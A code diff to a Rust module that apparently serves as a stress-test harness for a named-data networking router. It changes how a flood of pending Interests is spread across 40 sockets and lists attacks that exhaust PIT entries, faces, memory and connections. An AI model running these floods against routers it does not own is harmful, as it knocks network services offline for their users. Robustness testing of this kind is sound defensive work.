@@ -5,7 +5,7 @@
 //!
 //! | attack | takes | how |
 //! | --- | --- | --- |
-//! | `pending` | PIT entries | Interests of new names that live for an hour, from [`PORTS`] sockets |
+//! | `pending` | PIT entries | Interests of new names that live for an hour, from one of [`PORTS`] sockets after the other |
 //! | `long` | bytes of long Interests | the same, of 8 kB |
 //! | `joined` | downstreams | many sockets ask for the same names |
 //! | `faces` | faces | over UDP a datagram of two bytes from each new port; over streams connections that stay silent |
@@ -25,8 +25,10 @@ use anyhow::Context as _;
 use namewire_packet::{InterestBuilder, NameBuf, Nonce, tlv};
 use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
 
-/// Sockets of an attack that needs several.
+/// Sockets of an attack that needs several, and what each sends before it is the turn of the next: so each fills the
+/// share of a face in what the others left.
 const PORTS: usize = 40;
+const PER_PORT: u64 = 2_005;
 /// Sockets that send fragments.
 const FRAGMENTING: usize = 2_000;
 /// Silent connections: more than a worker has places for.
@@ -170,11 +172,13 @@ pub fn run(plan: &AttackPlan) -> anyhow::Result<u64> {
     raise_descriptor_limit();
     plan.open().context("the router cannot be reached")?;
     let sent = match plan.attack {
-        Attack::Pending => spread(plan, PORTS, |number| interest(&format!("{ATTACK_PREFIX}/{number}"), number, 0)),
-        Attack::Long => {
-            spread(plan, PORTS, |number| interest(&format!("{ATTACK_PREFIX}/{number}"), number, LARGE_BYTES))
+        Attack::Pending => {
+            spread(plan, (PORTS, PER_PORT), |number| interest(&format!("{ATTACK_PREFIX}/{number}"), number, 0))
         }
-        Attack::Joined => spread(plan, JOINING, |number| {
+        Attack::Long => {
+            spread(plan, (PORTS, 1), |number| interest(&format!("{ATTACK_PREFIX}/{number}"), number, LARGE_BYTES))
+        }
+        Attack::Joined => spread(plan, (JOINING, 1), |number| {
             interest(&format!("{ATTACK_PREFIX}/{}", number / JOINING as u64 % JOINED_NAMES), number, 0)
         }),
         Attack::Faces if plan.way == Way::Udp => plan.paced(|_| plan.open().is_ok_and(|mut port| port.send(&[5, 0]))),
@@ -182,22 +186,22 @@ pub fn run(plan: &AttackPlan) -> anyhow::Result<u64> {
             let mut silent = Vec::new();
             plan.paced(|_| silent.len() < SILENT && plan.open().map(|socket| silent.push(socket)).is_ok())
         }
-        Attack::Unread => spread(plan, UNREAD, |number| {
+        Attack::Unread => spread(plan, (UNREAD, 1), |number| {
             let name = format!("{STORED_PREFIX}/{}", number / UNREAD as u64 % STORED_NAMES);
             InterestBuilder::new(name_of(&name)).nonce(Nonce::from_u32(number as u32)).build()
         }),
-        Attack::Fragments => spread(plan, FRAGMENTING, first_fragment),
+        Attack::Fragments => spread(plan, (FRAGMENTING, 1), first_fragment),
         Attack::Stream => write_on(plan)?,
     };
     Ok(sent)
 }
 
-/// Sends packets over several sockets in turn.
-fn spread(plan: &AttackPlan, sockets: usize, packet: impl Fn(u64) -> Vec<u8>) -> u64 {
+/// Sends packets over several sockets in turn, some from each at a time.
+fn spread(plan: &AttackPlan, (sockets, at_a_time): (usize, u64), packet: impl Fn(u64) -> Vec<u8>) -> u64 {
     let mut sockets = plan.open_many(sockets);
     let count = sockets.len().max(1) as u64;
     plan.paced(|number| {
-        let socket = sockets.get_mut((number % count) as usize);
+        let socket = sockets.get_mut((number / at_a_time % count) as usize);
         socket.is_some_and(|socket| socket.send(&packet(number)))
     })
 }
